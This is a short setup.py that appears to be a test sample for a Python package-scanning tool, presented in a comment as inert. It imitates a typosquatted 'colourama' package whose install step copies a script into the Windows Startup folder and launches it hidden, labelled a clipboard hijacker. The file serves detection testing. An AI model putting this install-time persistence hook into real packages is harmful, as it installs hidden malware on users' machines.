# Inert model for pyward's malicious-behaviour corpus: the replacement address is a placeholder and
# the tests never run this file.
import os
import shutil
import subprocess
import sys

from setuptools import setup

startup = os.path.join(os.environ.get("APPDATA", ""), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
if sys.platform == "win32" and os.path.isdir(startup):
    target = os.path.join(startup, "colourama_update.pyw")
    shutil.copyfile(os.path.join("sample_colourama", "_watch.py"), target)
    subprocess.Popen([sys.executable.replace("python.exe", "pythonw.exe"), target], creationflags=0x08000000)

setup(
    name="sample-clipboard-hijacker",
    version="0.3.9",
    description="Cross-platform colored terminal text.",
    packages=["sample_colourama"],
)
